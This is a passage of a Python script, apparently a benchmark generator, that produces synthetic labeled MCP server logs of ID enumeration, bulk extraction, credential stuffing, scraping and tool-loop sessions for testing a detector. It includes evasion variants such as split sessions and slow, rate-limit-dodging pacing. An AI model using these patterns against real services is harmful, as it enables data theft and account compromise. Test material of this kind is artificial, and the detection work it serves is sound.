#!/usr/bin/env python3
"""Independent labeled MCP traffic generator for judging toolwatch.

Written only from the five seed articles (/work/shared/seeds) and the log contract
(docs/log-format.md).  Stdlib only.

    python benchmarks/independent/generate.py --seed N --out DIR [--scale F]

Writes one NDJSON log per MCP server (each server logs in its own dialect, using the
field aliases the contract allows), plus labels.ndjson with one label per session
(benign sessions included) and entity labels for attacks spread over many sessions.
"""
import argparse
import json
import math
import os
import random
from datetime import datetime, timedelta, timezone

EPOCH = datetime(1970, 1, 1, tzinfo=timezone.utc)
T0 = int((datetime(2026, 11, 2, tzinfo=timezone.utc) - EPOCH).total_seconds() * 1000)
S, M, H = 1000, 60_000, 3_600_000


# --------------------------------------------------------------------------- time formats
def iso(ms, suffix="Z", shift=0):
    return (EPOCH + timedelta(milliseconds=ms + shift)).strftime("%Y-%m-%dT%H:%M:%S.") + f"{ms % 1000:03d}{suffix}"


# --------------------------------------------------------------------------- tool profiles
# tool -> (median latency ms, median response bytes, rows or None)
TOOLS = {
    "getDocument": (40, 6000, 1), "listDocuments": (60, 4200, 20), "searchDocuments": (120, 8000, 20),
    "createDocument": (90, 400, 1), "updateDocument": (80, 300, 1), "getAuditReport": (150, 12000, 1),
    "shareDocument": (60, 220, None),
    "searchItems": (150, 15000, 50), "getCustomer": (45, 2500, 1), "getUser": (35, 1200, 1),
    "listContacts": (120, 30000, 100), "updateCustomer": (70, 300, 1), "listUsers": (80, 6000, 50),
    "updateUserRole": (60, 200, 1), "grant_role": (70, 200, None), "authenticateUser": (300, 150, None),
    "exportContacts": (2500, 800000, 4000), "getCustomersBatch": (300, 80000, 100), "add_note": (50, 180, None),
    "downloadAttachment": (200, 90000, None),
    "chargePayment": (450, 350, None), "refundPayment": (350, 300, None), "approveExpense": (80, 250, None),
    "listExpenses": (90, 3500, 20), "getInvoice": (40, 2000, 1), "increment_usage": (15, 80, None),
    "reset_usage_counter": (30, 100, None), "spend_credits": (60, 150, None), "redeem_gift_card": (90, 200, None),
    "generateInvoicePdf": (900, 120000, None), "get_usage": (20, 150, None),
    "get_balance": (30, 200, None), "transfer_credits": (120, 250, None), "transfer_funds": (200, 300, None),
    "pay_recipient": (250, 300, None), "verify_recipient": (150, 250, None), "list_recipients": (80, 3000, 25),
    "withdraw": (150, 250, None),
    "listDirectory": (20, 800, 12), "readFile": (15, 4000, None), "writeFile": (25, 120, None),
    "deleteFile": (15, 80, None), "delete_file": (30, 90, None), "transfer_file_owner": (40, 120, None),
    "executeCommand": (800, 600, None), "create_report": (40, 150, None), "statFile": (5, 200, None),
    "get_customer_export": (4000, 950000, 3000), "run_query": (1500, 20000, 400), "export_table": (30000, 20e6, 400000),
    "start_report": (200, 150, None), "get_report_status": (40, 180, None), "download_report": (800, 300000, None),
    "get_customer": (40, 1800, 1), "get_public_metrics": (200, 3000, 30),
    "upload_dataset": (2500, 300, None), "create_chart": (900, 2500, None), "summarize_text": (1800, 1200, None),
    "share_file": (600, 250, None),
    "createCart": (60, 300, None), "addItem": (50, 400, None), "removeItem": (40, 300, None),
    "applyDiscount": (40, 250, None), "checkout": (120, 600, None), "fulfillOrder": (200, 200, None),
    "shipOrder": (180, 220, None), "getOrder": (30, 1500, 1), "listOrders": (70, 6000, 25),
    "process_order": (600, 250, None),
    "connectExternalService": (400, 160, None), "listConnections": (50, 900, 4), "syncService": (3000, 5000, None),
    "send_webhook": (300, 150, None), "sendEmail": (250, 180, None),
    "search_tickets": (200, 3000, 10), "summarize_ticket": (1500, 1200, None), "get_ticket": (40, 2500, 1),
    "add_comment": (60, 200, None), "update_ticket": (70, 200, None),
    "listProducts": (80, 12000, 50), "searchProducts": (100, 9000, 25), "getProduct": (30, 2500, 1),
    "get_health": (20, 120, None), "deploy_status": (40, 400, None), "restart_service": (4000, 200, None),
    "get_metrics": (60, 3000, None),
}

FIRST = ("maria james wei anna omar lucia peter sara ivan chen noah emma liam olga raj fatima tom nina "
         "diego yuki hana ali ben chloe dmitri elena felix grace hugo ines jonas kofi lena marco nora "
         "oscar paula quinn rosa sven tara umar vera will xena yara zoe aiden bea carl dana").split()
LAST = ("lopez smith zhang mueller okafor rossi novak kim patel garcia ivanova brown nguyen silva "
        "tanaka berg costa haddad jensen kowalski larsen moreau nakamura obi perez quist reyes "
        "schmidt torres ueda varga wong yilmaz adams baker cruz diaz evans fischer").split()
SERVICES = ["salesforce", "hubspot", "github", "slack", "jira", "zendesk", "stripe", "gdrive", "notion"]
QUERIES = ["acme", "renewal", "invoice", "onboarding", "churn risk", "enterprise", "q4 pipeline", "refund",
           "berlin", "partner", "trial", "upgrade", "security review", "contract", "migration", "pricing"]
WORDS = ("the customer reported that the export job failed after the upgrade and asked for a refund "
         "of the duplicate invoice while the team reviewed logs and confirmed the fix was deployed").split()


class Call:
    __slots__ = ("start", "dur", "server", "tool", "args", "status", "nbytes", "rows", "msg", "rid", "extra")

    def __init__(self, start, dur, server, tool, args, status, nbytes, rows, msg, extra):
        self.start, self.dur, self.server, self.tool, self.args = int(start), float(dur), server, tool, args
        self.status, self.nbytes, self.rows, self.msg, self.extra = status, nbytes, rows, msg, extra
        self.rid = None

    @property
    def end(self):
        return self.start + int(round(self.dur))


class Session:
    def __init__(self, g, server, caller, ip, label, role, variant, t, pace="human", sid=None, attempt=False):
        self.g, self.server, self.caller, self.ip = g, server, caller, ip
        self.label, self.role, self.variant, self.pace = label, role, variant, pace
        self.sid = sid or g.new_sid(server)
        self.t = int(t)
        self.calls = []
        self.attempt = attempt
        self.summary = None          # summary-only sessions (legacy-api)
        self.omit = set()            # optional fields this client/server version does not log
        self.derived = False
        g.sessions.append(self)

    def at(self, start, tool, args, dur=None, status="ok", nbytes=None, rows=None, server=None, msg=None, **extra):
        g = self.g
        if dur is None:
            dur = g.lat(tool) if status in ("ok",) else g.lat(tool) * g.rng.uniform(0.3, 1.0)
        if nbytes is None:
            nbytes = g.size(tool) if status == "ok" else g.rng.randint(40, 220)
        if rows is None and status == "ok":
            prof = TOOLS.get(tool)
            rows = prof[2] if prof and prof[2] is not None else None
            if rows and rows > 1:
                rows = max(0, int(rows * g.rng.uniform(0.3, 1.2)))
        c = Call(start, dur, server or self.server, tool, args, status, int(nbytes), rows, msg, extra)
        self.calls.append(c)
        return c.end

    def do(self, tool, args, gap=None, **kw):
        end = self.at(self.t, tool, args, **kw)
        self.t = end + int(gap if gap is not None else self.g.gap(self.pace))
        return end

    def wait(self, ms):
        self.t += int(ms)


class G:
    def __init__(self, seed, scale):
        self.seed, self.scale = seed, scale
        self.rng = random.Random(seed)
        self.sessions, self.entities = [], []
        self._sids = set()
        r = self.rng
        self.INT = r.choice(["internal", "internal-data", "datahub-internal"])
        self.PLUG = r.choice(["community-analytics", "analytics-plugin", "chartly-community"])
        self.SHOP = r.choice(["shop", "orders"])
        self.dialect = {"docs": "canon", "ops": "canon", "crm": "camel", "billing": "billing", "treasury": "billing",
                        "files": "otel", self.INT: "interval", self.PLUG: "plugin", self.SHOP: "shop",
                        "integrations": "integ", "tickets": "jsonrpc", "catalog": "sessionless",
                        "legacy-api": "summary"}
        self.domain = r.choice(["acme.io", "northwind.com", "globex.net", "initech.dev", "umbrella.co", "hooli.xyz"])
        self.think_s = r.uniform(5, 14)           # median human think time
        self.agent_hi = r.uniform(600, 2200)      # agent inter-call gap upper bound (ms)
        self.page_limit = r.choice([20, 25, 50, 100])
        self.cus_fmt = r.choice(["cus_{:06d}", "C-{:05d}", "cust-{:05d}"])
        self.usr_fmt = r.choice(["u-{:05d}", "usr_{:06d}", "U{:05d}"])
        self.doc_hi = 1000 + r.randint(4000, 9000)
        self.salt = r.randint(1, 10 ** 6)
        fmt = r.choice(["{f}.{l}", "{f0}{l}", "{f}_{l}"])
        names = set()
        while len(names) < 260:
            f, l = r.choice(FIRST), r.choice(LAST)
            names.add(fmt.format(f=f, l=l, f0=f[0]))
        self.employees = sorted(names)
        r.shuffle(self.employees)
        self.emp_ip = {e: self.internal_ip() for e in self.employees}
        self.customers = sorted({f"cust-{r.randint(10000, 99999)}" for _ in range(2200)})
        self.cust_ip = {}
        self.svc = {k: r.choice(v) for k, v in {
            "export": ["svc-nightly-export", "svc-etl-nightly", "svc-bi-export"],
            "sync": ["svc-sync-hubspot", "svc-crm-sync", "svc-contact-sync"],
            "payroll": ["svc-payroll", "svc-payroll-runner"],
            "warehouse": ["svc-warehouse", "svc-fulfilment", "svc-3pl-bridge"],
            "billing": ["svc-billing-scheduler", "svc-renewals"],
            "migrate": ["svc-migrate", "svc-schema-migrator"],
            "indexer": ["svc-indexer", "svc-search-reindex"],
            "triage": ["bot-ticket-triage", "svc-helpdesk-ai"],
            "settle": ["svc-settlement", "svc-ledger-settle"]}.items()}
        self.ci_bots = [f"ci-{x}" for x in r.sample(["github-actions", "buildkite", "jenkins", "argo", "gitlab-runner",
                                                     "circleci"], 4)]
        # docs universe: which ids exist, who owns them
        self.doc_owner, self.docs_of = {}, {}
        for i in range(1000, self.doc_hi):
            if (i * 2654435761 ^ self.salt) % 100 < 7:
                continue  # deleted
            o = self.employees[(i * 40503 + self.salt) % len(self.employees)]
            self.doc_owner[i] = o
            self.docs_of.setdefault(o, []).append(i)
        self.doc_ids = list(self.doc_owner)
        self.paid_orders = []        # orders paid in checkout sessions: (order_id, end_ms)

    # ----------------------------------------------------------------------- helpers
    def n(self, k):
        return max(1, int(round(k * self.scale)))

    def hexs(self, n):
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def uuid(self):
        h = self.hexs(32)
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[int(h[16], 16) % 4]}{h[17:20]}-{h[20:]}"

    def new_sid(self, server):
        style = {"docs": "s-{h8}", "ops": "ops-{h8}", "crm": "{uuid}", "billing": "sess_{h12}", "treasury": "tr_{h12}",
                 "files": "mcp-{h10}", "integrations": "c{h12}", "tickets": "conn-{h10}", "legacy-api": "L{h12}"}
        st = style.get(server) or ("q-{h10}" if server == self.INT else "conn-{h12}" if server == self.PLUG
                                   else "ck_{h12}" if server == self.SHOP else "agt-{uuid}")
        while True:
            sid = st.format(h8=self.hexs(8), h10=self.hexs(10), h12=self.hexs(12), uuid=self.uuid())
            if sid not in self._sids:
                self._sids.add(sid)
                return sid

    def internal_ip(self):
        return f"10.{self.rng.choice([1, 2, 4, 8, 20])}.{self.rng.randint(0, 60)}.{self.rng.randint(2, 250)}"

    def public_ip(self):
        r = self.rng
        return f"{r.choice([23, 31, 37, 45, 62, 77, 81, 88, 91, 95, 109, 146, 151, 176, 178, 185, 188, 193, 212, 217])}." \
               f"{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"

    def cloud_ip(self):
        r = self.rng
        return f"{r.choice([3, 13, 18, 34, 35, 52, 54, 104, 138, 159])}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"

    def emp(self):
        if self.rng.random() < 0.08:   # personal AI agents acting for employees
            return f"agent-{self.hexs(4)}", self.rng.choice([self.internal_ip(), self.cloud_ip()])
        e = self.rng.choice(self.employees)
        return e, (self.emp_ip[e] if self.rng.random() < 0.85 else self.public_ip())

    def cust(self):
        c = self.rng.choice(self.customers)
        if c not in self.cust_ip:
            self.cust_ip[c] = self.public_ip()
        return c, self.cust_ip[c]

    def attacker(self):
        """Who runs an attack on an internal server: a compromised employee account or an AI agent.
        (Customer accounts attack the customer-facing servers: see g.cust() in those roles.)"""
        if self.rng.random() < 0.65:
            e = self.rng.choice(self.employees)
            return e, self.rng.choice([self.emp_ip[e], self.emp_ip[e], self.public_ip(), self.cloud_ip()])
        return f"agent-{self.hexs(4)}", self.rng.choice([self.cloud_ip(), self.public_ip(), self.internal_ip()])

    def start(self, kind="any", span_h=0.0):
        r = self.rng
        if kind == "work":
            day = 0 if r.random() < 0.65 else 1
            h = r.triangular(6.5, 19.0, 11.0)
            if day == 1:
                h = min(h, 11.0 - min(span_h, 4))
        elif kind == "night":
            day, h = (0 if r.random() < 0.55 else 1), r.uniform(0.3, 5.0)
        else:
            day, h = 0, r.uniform(0.2, 34.0 - span_h)
        return T0 + int((day * 24 + h) * H)

    def lat(self, tool, mult=1.0):
        med = TOOLS.get(tool, (60, 1000, None))[0]
        return max(2.0, self.rng.lognormvariate(math.log(med), 0.45) * mult)

    def size(self, tool):
        med = TOOLS.get(tool, (60, 1000, None))[1]
        return max(60, int(self.rng.lognormvariate(math.log(med), 0.6)))

    def gap(self, pace):
        r = self.rng
        if pace == "human":
            return min(10 * M, max(700, r.lognormvariate(math.log(self.think_s * 1000), 0.8)))
        if pace == "agent":
            return r.uniform(60, self.agent_hi)
        if pace == "fast":
            return r.uniform(5, 120)
        return r.uniform(300, 3000)   # "bot"

    def sess(self, server, caller, ip, label, role, variant, t, pace="human", **kw):
        return Session(self, server, caller, ip, label, role, variant, t, pace, **kw)

    def entity(self, etype, eid, label, variant, sessions):
        self.entities.append((etype, eid, label, variant, sessions))

    def doc_get(self, s, i, mode="vulnerable", **kw):
        """getDocument on the docs server. mode: vulnerable (IDOR) | protected (owner check)."""
        doc = f"doc-{i}"
        owner = self.doc_owner.get(i)
        if owner is None or (mode == "protected" and owner != s.caller):
            return s.do("getDocument", {"documentId": doc}, status="not_found", msg="Document not found", **kw)
        return s.do("getDocument", {"documentId": doc}, **kw)

    def key(self, kind=None):
        r = self.rng
        kind = kind or r.choice(["sk", "hex", "pat", "plain"])
        alnum = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
        if kind == "sk":
            return "sk_live_" + "".join(r.choice(alnum) for _ in range(24))
        if kind == "pat":
            return "ghp_" + "".join(r.choice(alnum) for _ in range(36))
        if kind == "hex":
            return self.hexs(32)
        return "".join(r.choice(alnum) for _ in range(r.randint(20, 40)))

    def text(self, n):
        base = " ".join(WORDS[(i * 7 + n) % len(WORDS)] for i in range(len(WORDS)))
        return ((base + " ") * (n // (len(base) + 1) + 1))[:n]


def pages_arg(g, style, k, limit, cursors):
    """Page parameter for page k (0-based), in the style a client uses."""
    if style == "page":
        return {"page": k + 1, "limit": limit}
    if style == "offset":
        return {"offset": k * limit, "limit": limit}
    if style == "pageToken":
        return {"pageToken": cursors[k] if k else None, "pageSize": limit}
    return {"cursor": cursors[k] if k else None, "limit": limit}


def cursor_list(g, n):
    return [None] + [g.rng.choice(["c_", "cur:", "eyX"]) + g.hexs(14) for _ in range(n)]


# =========================================================================== ATTACKS
def atk_enumeration(g):
    L, r = "enumeration", g.rng
    # the seed's own example: getDocument doc-1000 ... doc-1300
    s = g.sess("docs", *g.attacker(), L, "idor_walk", "seed_doc_1000_1300", g.start("any", 1), pace="agent")
    for i in range(1000, 1301):
        g.doc_get(s, i)
    for _ in range(g.n(5)):   # fast sequential walks of other ranges / tools
        c, ip = g.attacker()
        lo = r.randint(1000, g.doc_hi - 600)
        s = g.sess("docs", c, ip, L, "idor_walk", "fast_sequential", g.start("any", 1), pace="agent")
        for i in range(lo, lo + r.randint(130, 480)):
            g.doc_get(s, i)
    for _ in range(g.n(4)):   # slow, human-ish gaps over hours
        c, ip = g.attacker()
        lo = r.randint(1000, g.doc_hi - 300)
        med = r.uniform(20, 70) * S
        s = g.sess("docs", c, ip, L, "slow_idor_walk", "slow_human_gaps", g.start("any", 5))
        if r.random() < 0.5:
            s.do("listDocuments", {"limit": 20})
        for i in range(lo, lo + r.randint(105, 200)):
            g.doc_get(s, i, gap=min(8 * M, r.lognormvariate(math.log(med), 0.7)))
    for _ in range(g.n(4)):   # refused walk: the owner check answers "not found"
        c, ip = g.attacker()
        lo = r.randint(1000, g.doc_hi - 300)
        s = g.sess("docs", c, ip, L, "refused_idor_walk", "refused_walk", g.start("any", 1), pace="agent", attempt=True)
        for i in range(lo, lo + r.randint(40, 260)):
            g.doc_get(s, i, mode="protected")
    for _ in range(g.n(3)):   # partly refused: half the ids belong to a protected tenant
        c, ip = g.attacker()
        lo = r.randint(1000, g.doc_hi - 300)
        s = g.sess("docs", c, ip, L, "idor_walk", "partly_refused", g.start("any", 1), pace="agent")
        for i in range(lo, lo + r.randint(110, 250)):
            g.doc_get(s, i, mode="protected" if (i // 25) % 2 else "vulnerable")
    for _ in range(g.n(2)):   # getUser(userId) walk on crm
        c, ip = g.attacker()
        lo = r.randint(10000, 60000)
        s = g.sess("crm", c, ip, L, "user_id_walk", "getUser_sequential", g.start("any", 1), pace="agent")
        for k in range(r.randint(120, 350)):
            ok = r.random() < 0.9
            s.do("getUser", {"userId": g.usr_fmt.format(lo + k)}, status="ok" if ok else "not_found")
    for _ in range(g.n(3)):   # patterned ids: audit reports, invoices with a stride
        c, ip = g.attacker()
        v = r.choice(["audit_reports", "invoice_stride"])
        if v == "audit_reports":
            s = g.sess("docs", c, ip, L, "patterned_id_walk", v, g.start("any", 1), pace="agent")
            for k in range(1, r.randint(105, 240)):
                s.do("getAuditReport", {"reportId": f"rpt-2026-{k:04d}"}, status="ok" if r.random() < 0.8 else "not_found")
        else:
            s = g.sess("billing", c, ip, L, "patterned_id_walk", v, g.start("any", 1), pace="agent")
            base, step = r.randint(100, 5000), r.choice([3, 5, 7, 10])
            for k in range(r.randint(105, 220)):
                s.do("getInvoice", {"invoiceId": f"INV-2026-{base + k * step:06d}"},
                     status="ok" if r.random() < 0.85 else "not_found")
    for _ in range(g.n(3)):   # shuffled order inside a range, with cover calls
        c, ip = g.attacker()
        lo = r.randint(1000, g.doc_hi - 300)
        ids = list(range(lo, lo + r.randint(110, 200)))
        r.shuffle(ids)
        s = g.sess("docs", c, ip, L, "idor_walk", "shuffled_with_cover", g.start("any", 2), pace="agent")
        for j, i in enumerate(ids):
            if j % r.randint(4, 9) == 0:
                s.do("searchDocuments", {"query": r.choice(QUERIES)})
            g.doc_get(s, i, gap=r.uniform(0.5, 12) * S)
    for _ in range(g.n(2)):   # one caller, many sessions, each under 100 ids
        c, ip = g.attacker()
        lo = r.randint(1000, g.doc_hi - 800)
        t = g.start("any", 8)
        group = []
        for k in range(r.randint(5, 8)):
            s = g.sess("docs", c, ip if r.random() < 0.7 else g.public_ip(), L, "split_session_walk",
                       "split_sessions", t, pace="agent")
            for i in range(lo, lo + r.randint(45, 90)):
                g.doc_get(s, i)
            lo = i + 1
            t = s.t + r.randint(10, 70) * M
            group.append(s)
        g.entity("caller_id", c, L, "split_sessions", group)
    for _ in range(g.n(3)):   # summary-only server
        c, ip = g.attacker()
        u = r.randint(120, 1400)
        summary_session(g, c, ip, L, "idor_walk", "summary_only", calls=int(u * r.uniform(1.02, 1.15)), uniq=u,
                        nbytes=int(u * r.uniform(900, 7000)), fails=0)


def atk_bulk(g):
    L, r = "bulk_extraction", g.rng
    for _ in range(g.n(6)):   # a few calls, each 0.4-1.5 MB
        c, ip = g.attacker()
        srv = r.choice(["crm", "files", g.INT])
        s = g.sess(srv, c, ip, L, "bulk_read", "few_huge_calls", g.start("any"), pace="agent")
        for k in range(r.randint(2, 5)):
            nb = r.randint(400_000, 1_500_000)
            if srv == "crm":
                s.do("listContacts", {"limit": 5000, "offset": k * 5000, "fields": "all"}, nbytes=nb, rows=nb // 260)
            elif srv == "files":
                s.do("readFile", {"path": r.choice(["/srv/shared/finance/ledger_2026.csv", "/srv/hr/employees_full.csv",
                                                    "/srv/exports/customers_all.json", f"/srv/backups/crm_{k}.ndjson"])},
                     nbytes=nb)
            else:
                s.do("run_query", {"sql": f"SELECT * FROM customers OFFSET {k * 4000} LIMIT 4000"}, nbytes=nb, rows=nb // 300,
                     dur=r.uniform(2000, 9000))
    for _ in range(g.n(4)):   # huge row counts
        s = g.sess(g.INT, *g.attacker(), L, "bulk_read", "big_rows", g.start("any"), pace="agent")
        s.do("run_query", {"sql": "SELECT count(*) FROM payments"}, nbytes=120, rows=1)
        for t in r.sample(["payments", "customers", "orders", "users", "invoices"], r.randint(1, 2)):
            rows = r.randint(20_000, 250_000)
            s.do("run_query", {"sql": f"SELECT * FROM {t}"}, rows=rows, nbytes=rows * r.randint(60, 180),
                 dur=r.uniform(8000, 40000))
    for _ in range(g.n(4)):   # many records in batches
        s = g.sess("crm", *g.attacker(), L, "bulk_read", "record_batches", g.start("any"), pace="agent")
        base = r.randint(1, 40000)
        for k in range(r.randint(25, 70)):
            ids = [g.cus_fmt.format(base + k * 100 + j) for j in range(0, 100, 33)]
            s.do("getCustomersBatch", {"ids": ids, "count": 100}, rows=100, nbytes=r.randint(60_000, 110_000))
    for _ in range(g.n(4)):   # slow drip of medium attachments
        s = g.sess("crm", *g.attacker(), L, "bulk_read", "slow_drip", g.start("any", 3))
        for k in range(r.randint(22, 60)):
            s.do("downloadAttachment", {"attachmentId": f"att-{r.randint(10 ** 5, 10 ** 6)}"},
                 nbytes=r.randint(40_000, 150_000), gap=r.uniform(20, 150) * S)
    for _ in range(g.n(3)):   # oversized requests refused by a cap, a few pass
        s = g.sess(g.INT, *g.attacker(), L, "bulk_read", "capped_refused", g.start("any"), pace="agent", attempt=True)
        for k in range(r.randint(6, 20)):
            if r.random() < 0.8:
                s.do("run_query", {"sql": "SELECT * FROM customers", "limit": 1_000_000}, status="denied",
                     msg="Result too large for this role")
            else:
                s.do("run_query", {"sql": "SELECT * FROM customers", "limit": 5000}, rows=5000, nbytes=r.randint(500_000, 900_000))
    for _ in range(g.n(3)):   # just over 1 MB, spread over ordinary-looking calls
        s = g.sess("docs", *g.attacker(), L, "bulk_read", "just_over_1MB", g.start("any"), pace="agent")
        total, target = 0, r.randint(1_050_000, 1_600_000)
        while total < target:
            nb = r.randint(60_000, 160_000)
            total += nb
            s.do("getDocument", {"documentId": f"doc-{r.choice(g.doc_ids)}"}, nbytes=nb)
    for _ in range(g.n(3)):
        c, ip = g.attacker()
        nb = r.randint(3_000_000, 90_000_000)
        summary_session(g, c, ip, L, "bulk_read", "summary_only", calls=r.randint(6, 45), uniq=r.randint(3, 40),
                        nbytes=nb, fails=0)


def atk_credential(g):
    L, r = "credential_stuffing", g.rng

    def attempt(s, svc, cred, ok=False, pair=False, locked=False):
        args = {"service": svc}
        if pair:
            args.update({"username": cred[0], "password": cred[1]})
        else:
            args["apiKey"] = cred
        if locked:
            return s.do("connectExternalService", args, status="error", dur=r.uniform(5, 30),
                        msg="Authentication attempts exceeded. Session locked.")
        if ok:
            return s.do("connectExternalService", args, msg=None)
        return s.do("connectExternalService", args, status="auth_failed", dur=r.uniform(500, 1000),
                    msg="Authentication failed")

    for _ in range(g.n(5)):   # bursts of many different keys
        s = g.sess("integrations", *g.attacker(), L, "api_key_stuffing", "burst_api_keys", g.start("any"), pace="agent")
        svc = r.choice(SERVICES)
        for k in range(r.randint(12, 80)):
            attempt(s, svc, g.key(), ok=r.random() < 0.03)
    for _ in range(g.n(4)):   # the seed's lockout: 3 failures, then "Session locked"
        s = g.sess("integrations", *g.attacker(), L, "api_key_stuffing", "session_locked", g.start("any"), pace="agent",
                   attempt=True)
        svc = r.choice(SERVICES)
        for k in range(r.randint(6, 30)):
            attempt(s, svc, g.key(), locked=k >= 3)
    for _ in range(g.n(4)):   # credential pairs (username/password)
        c, ip = g.attacker()
        srv = r.choice(["integrations", "crm"])
        s = g.sess(srv, c, ip, L, "credential_pair_stuffing", "username_password", g.start("any"), pace="agent")
        svc = r.choice(SERVICES)
        for k in range(r.randint(8, 50)):
            user = f"{r.choice(FIRST)}.{r.choice(LAST)}@{r.choice(['gmail.com', 'outlook.com', g.domain, 'yahoo.com'])}"
            if srv == "crm":
                s.do("authenticateUser", {"username": user, "password": g.key("plain")},
                     status="auth_failed" if r.random() > 0.04 else "ok", dur=r.uniform(450, 1000))
            else:
                attempt(s, svc, (user, g.key("plain")), ok=r.random() < 0.04, pair=True)
    for _ in range(g.n(3)):   # low and slow
        s = g.sess("integrations", *g.attacker(), L, "api_key_stuffing", "low_and_slow", g.start("any", 6))
        svc = r.choice(SERVICES)
        for k in range(r.randint(5, 22)):
            s.do("listConnections", {}) if r.random() < 0.3 else None
            attempt(s, svc, g.key())
            s.wait(r.uniform(3, 25) * M)
    # distributed over sessions from one address: <= 2 failures per session
    for _ in range(g.n(1)):
        ip = r.choice([g.cloud_ip(), g.public_ip()])
        t = g.start("any", 10)
        group = []
        svc = r.choice(SERVICES)
        for k in range(r.randint(20, 40)):
            s = g.sess("integrations", f"trial-{g.hexs(6)}", ip, L, "distributed_stuffing", "one_ip_many_sessions", t,
                       pace="agent")
            for j in range(r.randint(1, 2)):
                attempt(s, svc, g.key())
            t = s.t + r.uniform(0.5, 15) * M
            group.append(s)
        g.entity("client_ip", ip, L, "one_ip_many_sessions", group)
    for _ in range(g.n(1)):   # one caller rotating addresses
        c = f"agent-{g.hexs(4)}"
        t = g.start("any", 8)
        group = []
        for k in range(r.randint(12, 22)):
            s = g.sess("integrations", c, r.choice([g.public_ip(), g.cloud_ip()]), L, "distributed_stuffing",
                       "one_caller_many_ips", t, pace="agent")
            svc = r.choice(SERVICES)
            for j in range(r.randint(1, 2)):
                attempt(s, svc, g.key())
            t = s.t + r.uniform(2, 30) * M
            group.append(s)
        g.entity("caller_id", c, L, "one_caller_many_ips", group)
    for _ in range(g.n(3)):
        c, ip = g.attacker()
        f = r.randint(3, 40)
        summary_session(g, c, ip, L, "api_key_stuffing", "summary_only", calls=f + r.randint(0, 4), uniq=0,
                        nbytes=f * 160, fails=f)


def scrape(g, s, tool, style, n, limit, qkey="query", q=None, gap=None, fail_after=None, extra=None):
    cur = cursor_list(g, n + 1)
    gapf = gap if callable(gap) else (lambda: gap)
    for k in range(n):
        gap = gapf()
        a = {}
        if q is not None:
            a[qkey] = q
        a.update(pages_arg(g, style, k, limit, cur))
        if a.get("cursor", 1) is None:
            a.pop("cursor")
        if a.get("pageToken", 1) is None:
            a.pop("pageToken")
        if extra:
            a.update(extra)
        if fail_after is not None and k >= fail_after:
            s.do(tool, a, status="error", gap=gap, msg="Session search limit reached. Start a new session to continue.")
        else:
            s.do(tool, a, rows=limit, nbytes=int(limit * g.rng.uniform(150, 400)), gap=gap)


def atk_scraping(g):
    L, r = "scraping_loop", g.rng
    for style, cnt in (("page", 5), ("offset", 4), ("cursor", 3), ("pageToken", 1)):
        for _ in range(g.n(cnt)):
            c, ip = g.attacker()
            srv, tool = r.choice([("crm", "searchItems"), ("crm", "listContacts"), ("docs", "listDocuments"),
                                  ("docs", "searchDocuments")])
            q = r.choice(["", "*", "a", "e", r.choice(QUERIES)]) if tool.startswith("search") else None
            s = g.sess(srv, c, ip, L, "pagination_scrape", f"{style}_param", g.start("any", 1), pace="agent")
            scrape(g, s, tool, style, r.randint(55, 300), r.choice([50, 100, g.page_limit]), q=q)
    for _ in range(g.n(3)):   # slow, under rate limits
        s = g.sess("crm", *g.attacker(), L, "pagination_scrape", "slow_under_rate_limit", g.start("any", 6))
        scrape(g, s, "searchItems", r.choice(["page", "offset"]), r.randint(52, 120), g.page_limit,
               q=r.choice(["", "*", "inc"]), gap=lambda: r.uniform(8, 45) * S)
    for _ in range(g.n(2)):   # hits the seed's session budget (20 calls), reconnects, continues
        c, ip = g.attacker()
        t = g.start("any", 6)
        group, page = [], 0
        q = r.choice(["", "*", "a"])
        for k in range(r.randint(5, 10)):
            s = g.sess("crm", c, ip, L, "budget_evading_scrape", "budget_hit_reconnect", t, pace="agent")
            for j in range(20 + r.randint(1, 3)):
                a = {"query": q, "page": page + 1, "limit": 50}
                if j >= 20:
                    s.do("searchItems", a, status="error",
                         msg="Session search limit reached. Start a new session to continue.")
                else:
                    s.do("searchItems", a, rows=50, nbytes=r.randint(9000, 18000))
                    page += 1
            t = s.t + r.uniform(0.2, 6) * M
            group.append(s)
        g.entity("caller_id", c, L, "budget_hit_reconnect", group)
    for _ in range(g.n(3)):   # storefront catalog without session ids (derived sessions)
        s = g.sess("catalog", *g.cust(), L, "catalog_scrape", "sessionless_catalog", g.start("any", 1), pace="agent")
        scrape(g, s, "listProducts", r.choice(["page", "offset", "cursor"]), r.randint(55, 220), 50,
               extra={"category": r.choice(["all", "*"])})
    for _ in range(g.n(2)):
        c, ip = g.attacker()
        n = r.randint(60, 1500)
        summary_session(g, c, ip, L, "pagination_scrape", "summary_only", calls=n, uniq=r.randint(0, 30),
                        nbytes=int(n * r.uniform(2000, 9000) if r.random() < 0.5 else n * 700), fails=0)


def atk_tool_loop(g):
    L, r = "tool_loop", g.rng
    for _ in range(g.n(5)):   # exact same call, fast
        c, ip = g.attacker()
        srv, tool, args = r.choice([("docs", "getDocument", {"documentId": f"doc-{r.randint(1000, g.doc_hi)}"}),
                                    ("crm", "searchItems", {"query": r.choice(QUERIES), "page": 1, "limit": 20}),
                                    ("ops", "get_metrics", {"service": "api", "window": "5m"}),
                                    (g.INT, "run_query", {"sql": "SELECT status FROM jobs WHERE id = 42"})])
        s = g.sess(srv, c, ip, L, "stuck_agent", "exact_repeat_fast", g.start("any"), pace="agent")
        for k in range(r.randint(55, 300)):
            s.do(tool, args)
    for _ in range(g.n(5)):   # circular chain search_tickets -> summarize_ticket -> search_tickets
        s = g.sess("tickets", *g.attacker(), L, "circular_chain", "search_summarize_cycle", g.start("any"), pace="agent")
        q = r.choice(["printer offline", "refund duplicate", "login loop", "export failed"])
        tids = [f"T-{r.randint(10000, 99999)}" for _ in range(r.randint(1, 3))]
        for k in range(r.randint(25, 90)):
            s.do("search_tickets", {"query": q})
            s.do("summarize_ticket", {"id": tids[k % len(tids)]})
    for _ in range(g.n(3)):   # slow repeat
        c, ip = g.attacker()
        s = g.sess(r.choice(["crm", "docs"]), c, ip, L, "stuck_agent", "slow_repeat", g.start("any", 3))
        tool, args = ("getCustomer", {"customerId": g.cus_fmt.format(r.randint(1, 90000))}) if s.server == "crm" else \
            ("searchDocuments", {"query": r.choice(QUERIES)})
        for k in range(r.randint(55, 120)):
